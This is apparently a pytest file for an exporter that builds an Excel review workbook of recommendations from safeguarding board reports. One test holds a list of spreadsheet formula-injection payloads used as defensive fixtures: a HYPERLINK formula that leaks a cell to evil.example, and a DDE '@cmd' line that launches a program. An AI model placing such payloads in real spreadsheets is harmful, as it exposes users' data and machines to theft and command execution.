"""The review workbook: structure, formats, links, and that report text never becomes a formula."""
from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import range_boundaries

from conftest import EXAMPLES
from extractor import __version__
from extractor.export.cells import MAX_CELL_CHARS, TRUNCATION_MARKER
from extractor.export.summary import summarise
from extractor.export.xlsx import SHEETS, write_workbook
from extractor.report import ReadFailure, Report, RunResult

DATA_SHEETS = ("Reports", "Recommendations", "Bodies", "Errors")


def gold_run() -> RunResult:
    """The two worked examples as a run: one PDF, one DOCX, and one unreadable file."""
    reports = []
    for name, fmt, pages in (("eastmere-2014-15", "pdf", 14), ("ardley-vale-2016-17", "docx", 30)):
        d = json.loads((EXAMPLES / f"{name}.gold.json").read_text(encoding="utf-8"))
        d.update(source=str(EXAMPLES / f"{name}.{fmt}"), sha256="0" * 63 + str(pages % 10),
                 format=fmt, pages=pages)
        reports.append(Report.from_dict(d))
    reports[0].recommendations[0].page = 9  # a PDF page, to check the link opens at it
    return RunResult(reports=reports, errors=[ReadFailure(
        "corpus/bad/locked.pdf", "encrypted PDF: a password is required")])


def header_index(ws, header: str) -> int:
    return [c.value for c in ws[1]].index(header) + 1


def column_values(ws, header: str) -> list:
    col = header_index(ws, header)
    return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    result = gold_run()
    path = tmp_path_factory.mktemp("xlsx") / "review.xlsx"
    write_workbook(result, path)
    return result, openpyxl.load_workbook(path)


def test_sheets_in_contract_order_and_the_extracted_values_very_hidden(workbook):
    _, wb = workbook
    visible = [ws.title for ws in wb.worksheets if ws.sheet_state == "visible"]
    assert visible == list(SHEETS) == [
        "Summary", "Reports", "Recommendations", "Bodies", "Errors", "Skipped", "Boards", "About"]
    assert wb.sheetnames[len(SHEETS):] == ["Extracted"]
    assert wb["Extracted"].sheet_state == "veryHidden"


def test_every_data_sheet_is_a_table_with_a_frozen_header(workbook):
    _, wb = workbook
    for name in DATA_SHEETS:
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        (table,) = ws.tables.values()
        assert table.ref == f"A1:{ws.cell(row=1, column=ws.max_column).column_letter}{ws.max_row}"
        assert table.autoFilter is not None
        assert table.tableStyleInfo.showRowStripes
    assert wb["Summary"].tables and wb["Summary"].freeze_panes
    assert wb["About"].tables and wb["About"].freeze_panes


def test_one_row_per_report_entry_body_and_error(workbook):
    result, wb = workbook
    entries = [e for r in result.reports for e in r.recommendations]
    assert wb["Reports"].max_row - 1 == len(result.reports) == 2
    assert wb["Recommendations"].max_row - 1 == len(entries) == 14
    assert wb["Bodies"].max_row - 1 == sum(max(1, len({b.sector for b in e.bodies})) for e in entries)
    assert wb["Errors"].max_row - 1 == 1
    assert column_values(wb["Recommendations"], "Id") == [e.id for e in entries]
    assert len(set(column_values(wb["Recommendations"], "Id"))) == len(entries)
    assert column_values(wb["Errors"], "Error") == ["encrypted PDF: a password is required"]


def test_recommendation_rows_carry_every_field(workbook):
    result, wb = workbook
    ws = wb["Recommendations"]
    entry = result.reports[1].recommendations[0]  # five bodies, three sectors
    row = {ws.cell(row=1, column=c).value: ws.cell(row=9, column=c).value
           for c in range(1, ws.max_column + 1)}
    assert row["Report"] == "ardley-vale-2016-17.docx"
    assert row["LSCB"] == "Ardley Vale Safeguarding Children Board"
    assert row["Period"] == "2016-17"
    assert (row["SCR"], row["No."], row["Status"]) == (entry.scr, entry.number, "Completed")
    assert entry.status == "completed"
    assert row["Recommendation"] == entry.text and row["Action"] == entry.action
    assert row["Bodies"] == "; ".join(b.name for b in entry.bodies)
    assert row["Sectors"] == "LSCB (board, sub-groups); Children's social care; Health"
    assert row["Confidence"] == entry.confidence and row["Evidence"] == entry.evidence
    assert row["Reviewer verdict"] is None and row["Reviewer note"] is None


def _drop_down(ws, header):
    letter = ws.cell(row=1, column=header_index(ws, header)).column_letter
    (dv,) = [dv for dv in ws.data_validations.dataValidation if str(dv.sqref).startswith(f"{letter}2:")]
    assert dv.type == "list" and dv.showErrorMessage
    # rows a reviewer adds below the table get the drop-down too
    assert int(str(dv.sqref).split(":")[1][len(letter):]) > ws.max_row + 100
    return dv.formula1


def test_reviewer_cells_and_status_are_drop_downs_that_refuse_other_words(workbook):
    _, wb = workbook
    assert _drop_down(wb["Recommendations"], "Reviewer verdict") == '"correct,wrong,edited,added"'
    assert _drop_down(wb["Recommendations"], "Status") == '"Completed,In progress,Not started,Unknown"'
    assert _drop_down(wb["Reports"], "Review complete") == '"yes,no"'


def test_the_about_sheet_says_how_to_review(workbook):
    _, wb = workbook
    text = " ".join(str(c.value) for row in wb["About"].iter_rows() for c in row if c.value)
    assert "How to review" in text
    for step in ("Reviewer verdict", "edited", "added", "Review complete", "scr-extract review import"):
        assert step in text


def test_status_and_verdict_are_colour_coded(workbook):
    _, wb = workbook
    for sheet, header, codes in (("Recommendations", "Status", {"Completed", "Not started"}),
                                 ("Reports", "Verdict", {"Meets", "Does not meet"})):
        ws = wb[sheet]
        letter = ws.cell(row=1, column=header_index(ws, header)).column_letter
        formulas = {f.strip('"') for cf in ws.conditional_formatting
                    if str(cf.sqref).startswith(letter + "2") for rule in cf.rules
                    for f in rule.formula}
        assert codes <= formulas, sheet


def test_shares_are_percentages_and_confidence_is_flagged(workbook):
    result, wb = workbook
    ws = wb["Reports"]
    for header, field in (("Actions reported", "actions_reported"),
                          ("Bodies named", "bodies_named")):
        cells = [ws.cell(row=r, column=header_index(ws, header)) for r in (2, 3)]
        assert [c.number_format for c in cells] == ["0%", "0%"]
        assert [c.value for c in cells] == [getattr(r.rec9, field) for r in result.reports]
    assert "Check" not in [c.value for c in wb["Recommendations"][1]]  # it was never filled


def test_source_links_are_relative_to_the_workbook_and_open_the_page(tmp_path):
    shared = tmp_path / "shared"
    (shared / "reports").mkdir(parents=True)
    result = gold_run()
    for r in result.reports:
        copy = shared / "reports" / Path(r.source).name
        copy.write_bytes(Path(r.source).read_bytes())
        r.source = str(copy)
    write_workbook(result, shared / "review.xlsx")
    moved = tmp_path / "elsewhere"
    shared.rename(moved)  # the folder shared whole: the links still reach the reports
    ws = openpyxl.load_workbook(moved / "review.xlsx")["Recommendations"]
    col = header_index(ws, "Source")
    links = [ws.cell(row=r, column=col).hyperlink.target for r in range(2, ws.max_row + 1)]
    assert links[0] == "reports/eastmere-2014-15.pdf#page=9"
    assert links[-1] == "reports/ardley-vale-2016-17.docx"
    for link in links:
        assert (moved / link.split("#")[0]).is_file()
    assert ws.cell(row=2, column=col).value == "open p. 9"


def test_summary_sheet_shows_the_library_figures_and_charts(workbook):
    result, wb = workbook
    ws = wb["Summary"]
    assert len(ws._charts) >= 2
    summary = summarise(result)
    for t in summary.tables:
        if t.key == "reasons":
            continue  # merged cells, not a table: test_summary_gives_each_verdict_its_reason
        table = ws.tables[f"Summary_{t.key}"]
        min_col, min_row, max_col, max_row = range_boundaries(table.ref)
        assert [ws.cell(row=min_row, column=c).value for c in range(min_col, max_col + 1)] \
            == list(t.headers)
        shown = [tuple(ws.cell(row=r, column=c).value for c in range(min_col, max_col + 1))
                 for r in range(min_row + 1, max_row + 1)]
        assert shown == t.rows, t.key
        for c in t.percent_columns:
            assert ws.cell(row=min_row + 1, column=min_col + c).number_format == "0%"
    verdicts = dict((row[0], row[1]) for row in summary.table("verdicts").rows)
    assert verdicts["Meets"] == 2  # both gold reports meet recommendation 9


def test_about_names_version_spec_and_inputs(workbook):
    result, wb = workbook
    values = {c.value for row in wb["About"].iter_rows() for c in row}
    assert f"scr-extract {__version__}" in values and "scr-extract/1" in values
    assert result.reports[0].sha256 in values and "corpus/bad/locked.pdf" in values


def test_no_cell_anywhere_holds_a_formula(workbook):
    _, wb = workbook
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3 partners agreed",
    "@cmd|' /C calc'!A0",
    "=1+1",
]


def test_report_text_never_becomes_a_formula(tmp_path):
    result = gold_run()
    report = result.reports[0]
    report.lscb = "=Eastmere LSCB"
    entries = report.recommendations
    for entry, text in zip(entries, HOSTILE):
        entry.text = text
    entries[0].action = "Bell\x07 and form feed\x0c removed; tab\tand\nnewline kept"
    entries[1].evidence = "x" * 40_000
    entries[2].bodies[0].name = "@Police"
    write_workbook(result, tmp_path / "hostile.xlsx")

    wb = openpyxl.load_workbook(tmp_path / "hostile.xlsx")
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    ws = wb["Recommendations"]
    assert column_values(ws, "Recommendation")[:5] == HOSTILE
    assert column_values(ws, "LSCB")[0] == "=Eastmere LSCB"
    assert column_values(ws, "Action")[0] == "Bell and form feed removed; tab\tand\nnewline kept"
    evidence = column_values(ws, "Evidence")[1]
    assert len(evidence) == MAX_CELL_CHARS and evidence.endswith(TRUNCATION_MARKER)
    assert "@Police" in column_values(wb["Bodies"], "Bodies")
    assert wb["Recommendations"].cell(row=2, column=header_index(ws, "Recommendation")).quotePrefix
    # Wrote no link but ours: only the Source column carries hyperlinks.
    linked = {ws.cell(row=1, column=c.column).value for row in ws.iter_rows(min_row=2)
              for c in row if c.hyperlink}
    assert linked == {"Source"}


@pytest.mark.parametrize("result", [
    RunResult(),
    RunResult(errors=[ReadFailure("a.pdf", "empty file (0 bytes)")]),
], ids=["nothing", "only-errors"])
def test_empty_runs_still_make_a_valid_workbook(tmp_path, result):
    write_workbook(result, tmp_path / "empty.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "empty.xlsx")
    assert wb.sheetnames == [*SHEETS, "Extracted"]
    for name in ("Reports", "Recommendations", "Bodies"):
        (table,) = wb[name].tables.values()
        assert table.ref.endswith("2")  # the header and one empty row: Excel needs a data row
        assert all(c.value is None for c in wb[name][2])
    assert len(wb["Summary"]._charts) >= 2


def test_report_without_entries(tmp_path):
    result = gold_run()
    report = result.reports[1]
    report.recommendations = []
    write_workbook(result, tmp_path / "few.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "few.xlsx")
    assert wb["Recommendations"].max_row - 1 == 7
    assert column_values(wb["Reports"], "Report")[1] == "ardley-vale-2016-17.docx"
    assert column_values(wb["Reports"], "Entries") == [7, 0]


def test_write_is_atomic_and_replaces(tmp_path):
    target = tmp_path / "out" / "review.xlsx"
    write_workbook(RunResult(), target)
    write_workbook(gold_run(), target)
    assert [p.name for p in target.parent.iterdir()] == ["review.xlsx"]
    assert openpyxl.load_workbook(target)["Recommendations"].max_row == 15


def test_summary_first_column_fits_the_longest_board_name(tmp_path):
    result = gold_run()
    result.reports[0].lscb = "Ashbourne Vale Local Safeguarding Children Board"  # 48 characters
    write_workbook(result, tmp_path / "w.xlsx")
    assert openpyxl.load_workbook(tmp_path / "w.xlsx")["Summary"].column_dimensions["A"].width == 50


def test_summary_gives_each_verdict_its_reason_and_monitoring_quote(workbook):
    result, wb = workbook
    ws = wb["Summary"]
    cells = {ws.cell(row=r, column=c).value: (r, c) for r in range(1, ws.max_row + 1) for c in (1, 4)}
    r, _ = cells["Why each report has its verdict"]
    assert [ws.cell(row=r + 1, column=c).value for c in (1, 2, 3, 6)] == [
        "LSCB, period", "Verdict", "Why", "Monitoring mechanism"]
    rows = [[ws.cell(row=r + 2 + i, column=c).value for c in (1, 2, 3, 6)] for i in range(2)]
    assert rows[0][0] == "Ardley Vale Safeguarding Children Board, 2016-17"
    for row in rows:
        assert row[1] == "Meets"
        assert row[2].startswith("Meets all three tests: the report describes how SCR actions are monitored")
        assert row[3].startswith("yes: \u201c")
    reports = wb["Reports"]
    why = column_values(reports, "Why this verdict")
    assert all(w.startswith("Meets all three tests") for w in why)


def test_officials_read_words_not_codes(workbook):
    _, wb = workbook
    codes = {"partly_meets", "does_not_meet", "no_scrs", "in_progress", "not_started",
             "childrens_social_care", "probation_youth_justice", "voluntary_sector"}
    for name in ("Summary", "Reports", "Recommendations", "Bodies"):
        for row in wb[name].iter_rows(values_only=True):
            for value in row:
                if isinstance(value, str):
                    assert not any(c in value for c in codes), (name, value)
    assert set(column_values(wb["Reports"], "Verdict")) == {"Meets"}


def test_bodies_has_one_row_per_entry_and_sector_to_filter_on(workbook):
    result, wb = workbook
    ws = wb["Bodies"]
    rows = list(zip(column_values(ws, "Entry id"), column_values(ws, "Sector")))
    assert len(rows) == len(set(rows))
    entry = result.reports[1].recommendations[0]  # five bodies, three sectors
    assert [s for i, s in rows if i == entry.id] == [
        "LSCB (board, sub-groups)", "Children's social care", "Health"]
    health = [b.name for b in entry.bodies if b.sector == "health"]
    bodies = column_values(ws, "Bodies")[[i for i, _ in rows].index(entry.id) + 2]
    assert bodies == "; ".join(health)


def test_ids_are_unique_when_two_boards_reports_share_a_file_name(tmp_path):
    import copy

    result = gold_run()
    other = copy.deepcopy(result.reports[0])
    other.source, other.lscb, other.sha256 = "elsewhere/eastmere-2014-15.pdf", "Westmere LSCB", "a" * 64
    result.reports.append(other)
    write_workbook(result, tmp_path / "ids.xlsx")
    ids = column_values(openpyxl.load_workbook(tmp_path / "ids.xlsx")["Recommendations"], "Id")
    assert len(ids) == 14 + len(other.recommendations) and len(set(ids)) == len(ids)
    assert ids[-1] == other.recommendations[-1].id + "b"
